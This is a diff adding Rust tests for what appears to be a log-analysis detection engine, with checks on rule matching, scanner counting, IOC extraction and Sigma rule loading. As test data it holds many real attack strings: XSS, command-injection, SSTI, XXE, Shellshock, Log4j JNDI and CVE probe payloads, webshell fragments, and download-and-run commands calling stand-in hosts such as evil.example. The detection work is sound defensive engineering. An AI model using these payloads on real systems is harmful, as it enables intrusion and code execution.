@@ -154,7 +154,6 @@ fn webapp_family() {
         &[
             r#"203.0.113.1 - - [27/Nov/2026:14:00:00 +0000] "GET /static/app.js?v=3 HTTP/1.1" 200 512 "https://example.com/" "Mozilla/5.0""#,
             r#"{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"x"}"#,
-            "Set-Cookie: rememberMe=deleteMe; Path=/",
             "GET /docs/../index.html HTTP/1.1",
             "select a union of sets",
         ],
@@ -646,4 +645,560 @@ fn hostile_input_gives_diagnostics_not_panics() {
     let hits = b["log_hits"].as_array().unwrap();
     assert!(hits.iter().any(|h| h["locator"]["members"][0] == "var/log/app.log"), "{hits:#?}");
     assert!(hits.iter().any(|h| h["jndi"]["host"] == "q.example"), "{hits:#?}");
+}
+
+// ------------------------------------------------------------------ web attack classes
+
+fn access(target: &str, ua: &str) -> String {
+    format!(r#"203.0.113.50 - - [27/Nov/2026:14:00:00 +0000] "GET {target} HTTP/1.1" 404 153 "-" "{ua}""#)
+}
+
+#[test]
+fn xss_family() {
+    let ua = "Mozilla/5.0";
+    table(
+        "web.xss",
+        &[
+            (&access("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ua), "web.xss"),
+            (&access("/search?q=%253Csvg%2Fonload%3Dalert%281%29%253E", ua), "web.xss"),
+            (&access("/?q=\"><img src=x onerror=prompt(document.domain)>", ua), "web.xss"),
+            (&access("/?q=<IMG SRC=JaVaScRiPt:alert('XSS')>", ua), "web.xss"),
+            (&access("/?q=%3Cbody%20onload%3Dconfirm%601%60%3E", ua), "web.xss"),
+            (&access("/?q=&#x3C;script&#x3E;alert(String.fromCharCode(88,83,83))", ua), "web.xss"),
+            (&access("/?next=javascript:alert(1)//", ua), "web.xss"),
+            (&access("/?q=<iframe src=\"http://evil.example/x\"></iframe>", ua), "web.xss"),
+            (&access("/?q=<details open ontoggle=alert(1)>", ua), "web.xss"),
+            (&access("/?a=<br", ua), "web.xss"),
+            (&access("/", "<script>alert(1)</script>"), "web.xss"),
+            ("<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>", "web.xss"),
+            ("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", "web.xss"),
+        ],
+        &[
+            &access("/static/js/javascript-guide.html", ua),
+            &access("/scripts/app.js?v=3", ua),
+            &access("/blog/alerting-prompt-design?confirm=yes", ua),
+            "2026-11-27 INFO rendered template <div class=\"x\"> in 3ms",
+            "<!DOCTYPE html><html><body>",
+            "INFO onload handler registered for module x",
+        ],
+    );
+}
+
+#[test]
+fn command_injection_family() {
+    let ua = "Mozilla/5.0";
+    table(
+        "web.cmd-injection",
+        &[
+            (&access("/ping.php?ip=127.0.0.1;id", ua), "web.cmd-injection"),
+            (&access("/ping.php?ip=127.0.0.1%3Bcat%20/etc/passwd", ua), "web.cmd-injection"),
+            (&access("/ping?host=x|whoami", ua), "web.cmd-injection"),
+            (&access("/ping?host=x%7C%7Cuname%20-a", ua), "web.cmd-injection"),
+            (&access("/x?host=`id`", ua), "web.cmd-injection"),
+            (&access("/x?host=$(whoami)", ua), "web.cmd-injection"),
+            (&access("/x?host=a&&sleep+5", ua), "web.cmd-injection"),
+            (&access("/x?host=a%0aid", ua), "web.cmd-injection"),
+            (&access("/x?c=;cat${IFS}/etc/passwd", ua), "web.cmd-injection"),
+            (&access("/x?c=;cat$IFS$9/etc/passwd", ua), "web.cmd-injection"),
+            (&access("/cgi-bin/x?a=1;wget+http://198.51.100.9/x.sh", ua), "web.cmd-injection"),
+            ("username=admin';ping -c 3 198.51.100.2;'", "web.cmd-injection"),
+        ],
+        &[
+            &access("/", "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119"),
+            &access("/", "Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310)"),
+            &access("/a;jsessionid=0123?x=1", ua),
+            &access("/api?fields=id|name|email", ua),
+            "2026-11-27 12:00:00 cron: cd /app && ls",
+            "build step: make clean; make install",
+        ],
+    );
+}
+
+#[test]
+fn inclusion_ssi_xxe_ssti_family() {
+    let ua = "Mozilla/5.0";
+    table(
+        "web",
+        &[
+            (&access("/index.php?page=php://filter/convert.base64-encode/resource=index", ua), "web.lfi-wrapper"),
+            (&access("/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", ua), "web.lfi-wrapper"),
+            (&access("/index.php?page=expect://id", ua), "web.lfi-wrapper"),
+            (&access("/view?file=file:///etc/passwd", ua), "web.lfi-wrapper"),
+            (&access("/index.php?page=http://evil.example/shell.txt?", ua), "web.rfi"),
+            (&access("/main.php?include=http://198.51.100.3/c99.txt", ua), "web.rfi"),
+            (&access("/x.php?file=http%3A%2F%2Fevil.example%2Fs.txt%00", ua), "web.rfi"),
+            (&access("/x.shtml?name=<!--#exec cmd=\"id\" -->", ua), "web.ssi"),
+            (&access("/x?q=%3C%21--%23include%20virtual%3D%22/etc/passwd%22--%3E", ua), "web.ssi"),
+            ("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "web.xxe"),
+            ("<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://evil.example/x.dtd\"> %ext;]>", "web.xxe"),
+            (&access("/x?name=%7B%7B7*7%7D%7D", ua), "web.ssti"),
+            (&access("/x?name=${7*7}", ua), "web.ssti"),
+            (&access("/x?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}", ua), "web.ssti"),
+            (&access("/x?name=<%25%3D+7*7+%25>", ua), "web.ssti"),
+            ("<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ex(\"id\")}", "web.ssti"),
+            ("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "web.ssti"),
+            ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "web.ssti"),
+            ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "web.ssti"),
+        ],
+        &[
+            &access("/login?next=https://example.com/home", ua),
+            &access("/r?url=http://partner.example/page.html", ua),
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+            "INFO rendering {{ user.name }} for ${catalina.base}",
+            "price: {{ 7 }} items, total ${total}",
+            "<!-- comment --> no includes here",
+        ],
+    );
+}
+
+#[test]
+fn shellshock_crlf_traversal_family() {
+    table(
+        "web",
+        &[
+            (&access("/cgi-bin/status", "() { :;}; /bin/bash -c \"cat /etc/passwd\""), "web.shellshock"),
+            (&access("/cgi-bin/test.cgi", "() { ignored;}; echo Content-Type: text/plain ; echo ; /usr/bin/id"), "web.shellshock"),
+            (&access("/cgi-bin/x?a=%28%29%20%7B%20%3A%3B%7D%3B%20ping%20x", "curl"), "web.shellshock"),
+            ("[Wed Nov 27 14:00:00 2026] [cgi:error] [pid 9] [client 198.51.100.1:4000] AH01215: () { :; }; /bin/bash -c 'wget x': /usr/lib/cgi-bin/t.cgi", "web.shellshock"),
+            ("Referer: () { _; } >_[$($())] { id; }", "web.shellshock"),
+            (&access("/%0d%0aSet-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
+            (&access("/x?r=%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
+            (&access("/redirect?u=%250d%250aLocation:%20http://evil.example", "curl"), "web.crlf-injection"),
+            (&access("/x%0D%0A%20Set-Cookie:x=1", "curl"), "web.crlf-injection"),
+            (&access("/x?u=%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "curl"), "web.crlf-injection"),
+            (&access("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "curl"), "web.path-traversal.encoded"),
+            (&access("/..%c0%af..%c0%afetc/passwd", "curl"), "web.path-traversal.encoded"),
+            (&access("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", "curl"), "web.path-traversal.encoded"),
+            (&access("/app/..;/manager/html", "curl"), "web.path-traversal.encoded"),
+            (&access("/a/.././b/.././etc/hosts", "curl"), "web.path-traversal.encoded"),
+            (&access("/..%5c..%5cwindows/win.ini", "curl"), "web.path-traversal.encoded"),
+            (&access("/%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "curl"), "web.path-traversal.encoded"),
+        ],
+        &[
+            &access("/function()%20{return%201}", "curl"),
+            "js: var f = function () { return 1; };",
+            &access("/search?q=line1%0aline2", "curl"),
+            &access("/docs/../index.html", "curl"),
+            &access("/static/app.min.js", "curl"),
+        ],
+    );
+}
+
+#[test]
+fn sqli_dbms_phpunit_cve_family() {
+    let ua = "Mozilla/5.0";
+    table(
+        "web",
+        &[
+            (&access("/item?id=1;EXEC%20master..xp_cmdshell%20'whoami'--", ua), "web.sqli.dbms"),
+            (&access("/item?id=1%20AND%201=CAST(0x5f21403264696c656d6d61%20AS%20VARCHAR(4000))--", ua), "web.sqli.dbms"),
+            (&access("/item?id=1';WAITFOR%20DELAY%20'0:0:5'--", ua), "web.sqli.dbms"),
+            (&access("/item?id=1%20AND%201=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)", ua), "web.sqli.dbms"),
+            (&access("/item?id=1%20AND%20UTL_INADDR.GET_HOST_NAME((SELECT%20user%20FROM%20dual))", ua), "web.sqli.dbms"),
+            (&access("/item?id=1;SELECT%20PG_SLEEP(5)--", ua), "web.sqli.dbms"),
+            (&access("/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--", ua), "web.sqli.dbms"),
+            (&access("/foo?a=%2cnull%2cnull%2cnull", ua), "web.sqli.dbms"),
+            (&access("/foo?a=1%20and%20sleep(5)", ua), "web.sqli.dbms"),
+            ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "web.phpunit.eval-stdin"),
+            (&access("/Telerik.Web.UI.WebResource.axd?type=rau", ua), "web.cve.telerik"),
+            (&access("/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`id`", ua), "web.cve.cacti"),
+            ("POST /ssl-vpn/hipreport.esp HTTP/1.1 Cookie: SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt", "web.cve.panos"),
+            (&access("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", ua), "web.cve.panos"),
+            (&access("/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css", ua), "web.cve.owncloud"),
+            (&access("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", ua), "web.cve.fortios"),
+            (&access("/setup/setupadministrator.action", ua), "web.cve.confluence"),
+            (&access("/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", ua), "web.cve.confluence"),
+            (&access("/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker%22%7d", ua), "web.cve.vmware"),
+            (&access("/vpn/../vpns/cfg/smb.conf", ua), "web.cve.citrix"),
+            (&access("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", ua), "web.cve.f5-bigip"),
+            (&access("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", ua), "web.cve.exchange"),
+            (&access("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd", ua), "web.cve.apache-traversal"),
+            (&access("/etc/passwd%3f", ua), "web.cve.apache-traversal"),
+            (&access("/vendor/htmlawed/htmlawed/htmLawedTest.php", ua), "web.cve.misc"),
+            (&access("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", ua), "web.cve.misc"),
+        ],
+        &[
+            &access("/item?id=42&sort=name", ua),
+            &access("/blog/selecting-a-database-union-vs-join", ua),
+            &access("/api/v2/cmdb/firewall/policy", ua),
+            &access("/global-protect/login.esp", ua),
+            &access("/phpunit/docs/index.html", ua),
+            "SELECT id, name FROM users WHERE id = 1",
+        ],
+    );
+}
+
+#[test]
+fn webshells_are_attributed_to_their_family() {
+    let ua = "Mozilla/5.0";
+    table(
+        "web.webshell",
+        &[
+            (&access("/uploads/c99.php", ua), "web.webshell.probe"),
+            (&access("/Worse_Linux_Shell.php", ua), "web.webshell.probe"),
+            (&access("/wp-content/plugins/x/wso.php?a=1", ua), "web.webshell.probe"),
+            (&access("/uploads/shell.jsp?cmd=whoami", ua), "web.webshell.cmd-param"),
+            (&access("/x.php?cmd=cat%20/etc/passwd", ua), "web.webshell.cmd-param"),
+            ("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);", "web.webshell.behinder"),
+            ("<?php @error_reporting(0); session_start(); $key=\"e45e329feb5d925b\"; $_SESSION['k']=$key;", "web.webshell.behinder"),
+            ("<%! String xc=\"3c6e0b8a9c15224a\"; String pass=\"pass\"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){", "web.webshell.godzilla"),
+            ("<?php @session_start(); @set_time_limit(0); $pass='pass'; $payloadName='payload'; $key='3c6e0b8a9c15224a';", "web.webshell.godzilla"),
+            (&access("/x.php", "antSword/v2.1"), "web.webshell.antsword"),
+            ("POST /x.php _0x2bd6a1=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwgIjAiKTs", "web.webshell.antsword"),
+            ("POST /x.php z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==", "web.webshell.chopper"),
+        ],
+        &[
+            // ZoneMinder polls its streams with `command=99`.
+            &access("/zm/index.php?view=request&request=stream&connkey=785750&auth=88ac81&command=99", ua),
+            &access("/index.php?command=status", ua),
+            &access("/shells/bash-guide.html", ua),
+            &access("/css/shell.css", ua),
+            "Set-Cookie: rememberMe=deleteMe; Path=/; Max-Age=0",
+        ],
+    );
+    // `rememberMe=deleteMe` says Shiro is there; it is neither an exploit nor Behinder.
+    let e = engine();
+    let ids = rule_ids(&e, "HTTP/1.1 200 OK Set-Cookie: rememberMe=deleteMe; Path=/");
+    assert_eq!(ids, vec!["web.shiro.fingerprint"], "{ids:?}");
+}
+
+#[test]
+fn download_then_run_without_a_pipe() {
+    table(
+        "shell.download",
+        &[
+            ("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh", "shell.download-run"),
+            ("wget -q http://198.51.100.7/bot -O /tmp/bot && /tmp/bot", "shell.download-run"),
+            ("curl -s -o /dev/shm/k http://evil.example/k;./k", "shell.download-run"),
+            ("busybox wget http://198.51.100.7/m -O- > /tmp/m; sh /tmp/m", "shell.download-run"),
+            (&access("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/", "-"), "shell.download-run"),
+        ],
+        &[
+            "wget http://mirror.example/pkg.tar.gz; tar xzf pkg.tar.gz",
+            "curl -fsSL https://example.com/health && echo ok",
+            "INFO downloaded config with curl; restarting service",
+        ],
+    );
+}
+
+#[test]
+fn query_plus_is_a_space_for_indicators() {
+    // The Mozi downloader line: the IOC is the URL, not `...Mozi.m+-O+/tmp/netgear`.
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            br#"120.86.253.142 - - [26/Apr/2023:05:11:25 +0000] "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0" 404 153 "-" "-"
+"#,
+        )],
+    );
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    let iocs: Vec<String> = v["bundles"][0]["iocs"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| format!("{}:{}", i["type"].as_str().unwrap(), i["value"].as_str().unwrap()))
+        .collect();
+    assert!(iocs.contains(&"url:http://192.168.1.1:8088/Mozi.m".to_string()), "{iocs:?}");
+    assert!(!iocs.iter().any(|i| i.contains("Mozi.m+")), "{iocs:?}");
+    let rules: Vec<&str> =
+        v["bundles"][0]["log_hits"].as_array().unwrap().iter().map(|h| h["rule"].as_str().unwrap()).collect();
+    assert!(rules.contains(&"shell.download-run"), "{rules:?}");
+}
+
+#[test]
+fn one_scanner_finding_per_scanner_and_address_with_span_and_count() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut log = String::new();
+    // More requests than hits kept per log: all are counted.
+    for i in 0..2_500 {
+        let s = i % 60;
+        log.push_str(&format!(
+            "198.51.100.20 - - [27/Nov/2026:14:{:02}:{s:02} +0000] \"GET /cgi-bin/test{i}.cgi HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{i:06})\"\n",
+            i / 60 % 60
+        ));
+    }
+    log.push_str("203.0.113.9 - - [27/Nov/2026:15:00:00 +0000] \"GET /?id=1 HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n");
+    log.push_str("203.0.113.9 - - [27/Nov/2026:15:00:09 +0000] \"GET /?id=2 HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"\n");
+    log.push_str(
+        "198.51.100.21 - - [27/Nov/2026:16:00:00 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"Nikto\"\n",
+    );
+    log.push_str("192.0.2.1 - - [27/Nov/2026:16:00:01 +0000] \"GET /?u=http://x1.oast.fun/ HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"\n");
+    write_files(dir.path(), &[("access.log", log.as_bytes())]);
+    let (v, _) = run_json(&["logs", dir.path().join("access.log").to_str().unwrap()]);
+    let findings = v["bundles"][0]["findings"].as_array().unwrap();
+    let scanner: Vec<(&str, &str)> = findings
+        .iter()
+        .filter(|f| f["rule"].as_str().unwrap().starts_with("log.scanner."))
+        .map(|f| (f["rule"].as_str().unwrap(), f["summary"].as_str().unwrap()))
+        .collect();
+    assert_eq!(scanner.len(), 4, "{scanner:#?}");
+    let nikto: Vec<&(&str, &str)> = scanner.iter().filter(|(r, _)| *r == "log.scanner.nikto").collect();
+    assert_eq!(nikto.len(), 2, "{nikto:?}");
+    assert!(
+        nikto
+            .iter()
+            .any(|(_, s)| s.starts_with("2500 request(s) from 198.51.100.20 between 2026-11-27T14:00:00")),
+        "{nikto:?}"
+    );
+    assert!(nikto.iter().any(|(_, s)| s.starts_with("1 request(s) from 198.51.100.21 at")), "{nikto:?}");
+    assert!(scanner.iter().any(|(r, s)| *r == "log.scanner.sqlmap"
+        && s.starts_with(
+            "2 request(s) from 203.0.113.9 between 2026-11-27T15:00:00.000000000Z and 2026-11-27T15:00:09"
+        )));
+    assert!(scanner.iter().any(|(r, _)| *r == "log.scanner.oob"), "{scanner:?}");
+    // No per-log finding for scanner rules besides these.
+    assert!(!findings.iter().any(|f| f["rule"] == "log.web.scanner"));
+}
+
+#[test]
+fn remaining_log4j_classes() {
+    table(
+        "log4j",
+        &[
+            ("GET /?x=${lower:j}${lower:n}${lower:d}${lower:i}:ldap://o8.example/a", "log4j.jndi-assembled"),
+            ("X-Api-Version: j${::-n}di:rmi://o9.example/a", "log4j.jndi-assembled"),
+            ("User-Agent: ${${::-${::-$${::-j}}}}", "log4j.recursive-lookup"),
+            ("ua=${ctx:loginId${ctx:loginId}}", "log4j.recursive-lookup"),
+            (r"a \44{jndi:ldap://o1.example/a}", "log4j.jndi-lookup"),
+            (r"a \44\173jndi:ldap://o2.example/a}", "log4j.jndi-lookup"),
+            (r"a \\44\\173jndi:ldap://o4.example/a}", "log4j.jndi-lookup"),
+            (r"a \044\173jndi:ldap://o11.example/a}", "log4j.jndi-lookup"),
+            (r"a \\x24\\x7bjndi:ldap://o6.example/a}", "log4j.jndi-lookup"),
+            ("a %5C44%5C173jndi:ldap://o10.example/a}", "log4j.jndi-lookup"),
+        ],
+        &[
+            "${user.home}/conf/jndi.properties loaded",
+            "INFO ${lower:Service} started on ${hostName}",
+            "price is $$ {discount}",
+            "cost: $${amount} escaped",
+        ],
+    );
+    // An assembled string next to a real lookup is reported as the lookup only.
+    let e = engine();
+    let ids = rule_ids(&e, "${jndi:ldap://x.example/a} ${lower:j}ndi:ldap://y");
+    assert!(
+        ids.contains(&"log4j.jndi-lookup".to_string()) && !ids.contains(&"log4j.jndi-assembled".to_string())
+    );
+}
+
+// ------------------------------------------------------------------ Sigma
+
+const SIGMA_WEB: &str = r#"title: Acme Admin Probe
+id: 11111111-2222-3333-4444-555555555555
+status: test
+author: Jane Analyst
+logsource:
+    category: webserver
+detection:
+    selection:
+        cs-uri-stem|endswith: '/acme-admin.php'
+        cs-method: 'POST'
+    filter:
+        sc-status: 404
+    condition: selection and not filter
+level: high
+tags:
+    - attack.initial-access
+    - attack.t1190
+"#;
+
+const SIGMA_NO_ANCHOR: &str = r#"title: Any Server Error
+id: 22222222-2222-3333-4444-555555555555
+logsource:
+    category: webserver
+detection:
+    selection:
+        sc-status: 500
+    condition: selection
+level: low
+"#;
+
+#[test]
+fn sigma_rules_from_a_directory_match_parsed_requests_and_credit_their_author() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[
+            ("sigma/acme.yml", SIGMA_WEB.as_bytes()),
+            ("sigma/any_post.yml", SIGMA_NO_ANCHOR.as_bytes()),
+            ("sigma/broken.yml", b"title: [unclosed\n"),
+            (
+                "access.log",
+                b"192.0.2.1 - - [27/Nov/2026:14:00:00 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n\
+192.0.2.1 - - [27/Nov/2026:14:00:01 +0000] \"POST /x/acme-admin.php HTTP/1.1\" 404 5 \"-\" \"curl/8\"\n\
+192.0.2.1 - - [27/Nov/2026:14:00:02 +0000] \"GET /x/acme-admin.php HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
+            ),
+        ],
+    );
+    let sigma = dir.path().join("sigma");
+    let log = dir.path().join("access.log");
+    let (v, _) = run_json(&["logs", log.to_str().unwrap(), "--sigma", sigma.to_str().unwrap()]);
+    let hits: Vec<&serde_json::Value> = v["bundles"][0]["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|h| h["rule"] == "sigma.acme")
+        .collect();
+    // Only the POST that was not answered 404.
+    assert_eq!(hits.len(), 1, "{hits:?}");
+    assert_eq!(hits[0]["locator"]["line"], 1);
+    assert_eq!(hits[0]["severity"], "high");
+    assert_eq!(hits[0]["attack"], "T1190");
+    let credit = hits[0]["credit"].as_str().unwrap();
+    assert!(
+        credit.contains("Acme Admin Probe")
+            && credit.contains("11111111-2222-3333-4444-555555555555")
+            && credit.contains("Jane Analyst")
+            && credit.contains("Detection Rule License 1.1"),
+        "{credit}"
+    );
+    // Nothing shows the probe worked: it is an attempt, the rule credited there too.
+    let a = v["bundles"][0]["attempts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["rule"] == "log.sigma.acme")
+        .unwrap_or_else(|| panic!("{:#}", v["bundles"][0]["attempts"]));
+    assert!(a["credit"].as_str().unwrap().contains("Jane Analyst"), "{a:#}");
+    // `rules list` names the rules it could not use, with the reason.
+    let out = run(&["rules", "list", "--sigma", sigma.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("sigma.acme"), "{text}");
+    assert!(
+        text.lines().any(|l| l.contains("any_post.yml")
+            && l.contains("Any Server Error")
+            && l.contains("no literal")),
+        "{text}"
+    );
+    assert!(
+        text.lines().any(|l| l.contains("broken.yml") && l.contains("not a Sigma rule")
+            || l.contains("broken.yml") && l.contains("parse error")),
+        "{text}"
+    );
+    assert!(text.contains("process rules"), "{text}");
+    // A missing directory is an error, not silence.
+    let bad = run(&["logs", log.to_str().unwrap(), "--sigma", dir.path().join("nope").to_str().unwrap()]);
+    assert_ne!(bad.status.code(), Some(0));
+}
+
+#[test]
+fn bundled_sigma_rules_run_by_default_and_can_be_left_out() {
+    let dir = tempfile::tempdir().unwrap();
+    write_files(
+        dir.path(),
+        &[(
+            "access.log",
+            b"203.0.113.5 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
+        )],
+    );
+    let log = dir.path().join("access.log");
+    let rules = |args: &[&str]| -> Vec<String> {
+        let mut a = vec!["logs", log.to_str().unwrap()];
+        a.extend_from_slice(args);
+        let (v, _) = run_json(&a);
+        v["bundles"][0]["log_hits"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|h| h["rule"].as_str().unwrap().to_string())
+            .collect()
+    };
+    let with = rules(&[]);
+    assert!(with.iter().any(|r| r.starts_with("sigma.web_cve_2021_44228_log4j")), "{with:?}");
+    let without = rules(&["--no-bundled-sigma"]);
+    assert!(!without.iter().any(|r| r.starts_with("sigma.")), "{without:?}");
+    assert!(without.contains(&"log4j.jndi-lookup".to_string()));
+}
+
+#[test]
+fn single_ampersand_and_style_payloads() {
+    table(
+        "web",
+        &[
+            (
+                &access("/ping.php?ip=127.0.0.1%26%20ping%20-c%2010%20127.0.0.1%20%26", "curl"),
+                "web.cmd-injection",
+            ),
+            ("ip=127.0.0.1 & sleep 5 &", "web.cmd-injection"),
+            ("<STYLE>@import'http://xss.rocks/xss.css';</STYLE>", "web.xss"),
+            ("<BR SIZE=\"&{alert('XSS')}\">", "web.xss"),
+        ],
+        &[
+            &access("/search?q=salt%20%26%20pepper", "curl"),
+            "INFO saved name & id fields for user 7",
+            "<style>body { color: red }</style>",
+        ],
+    );
+}
+
+#[test]
+fn wrappers_anywhere_and_crlf_after_any_number_of_encodings() {
+    table(
+        "web",
+        &[
+            (
+                &access("/cgi-bin/x.cgi", "php://filter/read=convert.base64-encode/resource=../config.php"),
+                "web.lfi-wrapper",
+            ),
+            ("X-Forwarded-For: expect://ls", "web.lfi-wrapper"),
+            (&access("/index.php?page=%25%30%61Set-Cookie:crlf=injection", "curl"), "web.crlf-injection"),
+            (&access("/index.php?page=%5Cr%5CnSet-Cookie:%20x=1", "curl"), "web.crlf-injection"),
+        ],
+        &[
+            "INFO loading file:///opt/app/conf/app.properties",
+            "DEBUG response header Set-Cookie: JSESSIONID=abc; Path=/",
+            "GET /docs/php-filter-guide.html HTTP/1.1",
+        ],
+    );
+}
+
+#[test]
+fn template_probes_and_smarty_calls() {
+    table(
+        "web.ssti",
+        &[
+            ("name={{config}}", "web.ssti"),
+            ("q=${{<%[%'\"}}%\\.", "web.ssti"),
+            ("q={system('id')}", "web.ssti"),
+            ("q={{=7*7}}", "web.ssti"),
+        ],
+        &["template {{ title }} rendered", "{{config_path}} missing", "call {system_status} ok"],
+    );
+}
+
+#[test]
+fn mssql_dynamic_sql_and_comment_truncation() {
+    table(
+        "web.sqli",
+        &[
+            (
+                &access("/item?id=1';DECLARE%20@x%20varchar(99);SET%20@x=0x77686f616d69;EXEC(@x)--", "curl"),
+                "web.sqli.dbms",
+            ),
+            (&access("/login?user=admin'--&pass=x", "curl"), "web.sqli"),
+        ],
+        &[&access("/blog/don't-panic--a-guide", "curl"), "DECLARE section of the config parsed"],
+    );
+}
+
+#[test]
+fn sensitive_file_requests() {
+    table(
+        "web.sensitive-file",
+        &[
+            (&access("/.env", "curl"), "web.sensitive-file"),
+            (&access("/app/.git/config", "curl"), "web.sensitive-file"),
+            (&access("/wp-config.php.bak", "curl"), "web.sensitive-file"),
+            (&access("/.aws/credentials", "curl"), "web.sensitive-file"),
+            (&access("/backup.sql.gz", "curl"), "web.sensitive-file"),
+        ],
+        &[
+            &access("/wp-config.php", "curl"),
+            &access("/docs/.environment-setup.html", "curl"),
+            "INFO reading /home/app/.config/settings.json",
+            &access("/static/config.js", "curl"),
+        ],
+    );
 }
